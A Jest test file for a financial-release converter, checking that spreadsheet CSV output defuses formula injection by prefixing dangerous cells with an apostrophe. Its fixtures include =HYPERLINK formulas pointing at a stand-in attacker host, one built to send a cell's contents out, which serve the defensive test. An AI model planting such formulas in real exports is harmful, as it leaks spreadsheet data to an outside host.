/** Outputs that cannot act: a footnote written as a spreadsheet formula stays text in facts.csv. */
import fs from 'node:fs';
import path from 'node:path';
import { convertBytes } from '../../src/convert';
import { neutraliseCell } from '../../src/feed/to-spreadsheet-csv';
import { parseCsv } from '../../src/util/csv';

const RELEASE = path.join(__dirname, '../../releases/iij-2004-02-12-3q-fy2003.txt');

describe('spreadsheet CSV cells cannot run as formulas (OWASP CSV injection)', () => {
  test('cells starting with = + - @ tab or CR get an apostrophe; numbers stay numbers', () => {
    for (const c of ['=HYPERLINK("http://evil.example","x")', '+1+1', '-2+3', '@SUM(A1)', '\tx', '\rx', '-', '=1'])
      expect(neutraliseCell(c)).toBe(`'${c}`);
    for (const c of ['-1234', '+0.5', '-0.001', '12', '1e3', '-6', 'Revenues', '', "'=x", '(1,234)'])
      expect(neutraliseCell(c)).toBe(c);
  });

  test('a release footnote written as =HYPERLINK(…) reaches facts.csv as text, and the xBRL-CSV notes verbatim', () => {
    const text = fs
      .readFileSync(RELEASE, 'utf8')
      .replace(
        '⁴ Others are IIJ FiberAccess/F Service',
        '⁴ =HYPERLINK("http://evil.example/?"&A1,"Others") are IIJ FiberAccess/F Service',
      );
    const r = convertBytes(Buffer.from(text), RELEASE);
    const csv = r.outputs.get('iij-20031231.facts.csv')!;
    const cells = parseCsv(csv.replace(/^\uFEFF/, '')).records.flatMap((x) => x.fields);
    const evil = cells.filter((c) => c.includes('HYPERLINK'));
    expect(evil.length).toBeGreaterThan(0);
    for (const c of evil) expect(c.startsWith("'=HYPERLINK(")).toBe(true);
    // Negative figures are still numbers in the value column.
    const values = parseCsv(csv.replace(/^\uFEFF/, '')).records.map((x) => x.fields[13]);
    expect(values.some((v) => /^-\d/.test(v))).toBe(true);
    // xBRL-CSV is data for XBRL processors: the note is the footnote's text, unchanged.
    const notes = r.outputs.get('iij-20031231.xbrl-csv.notes.csv')!;
    expect(notes).toContain('=HYPERLINK(');
  });
});
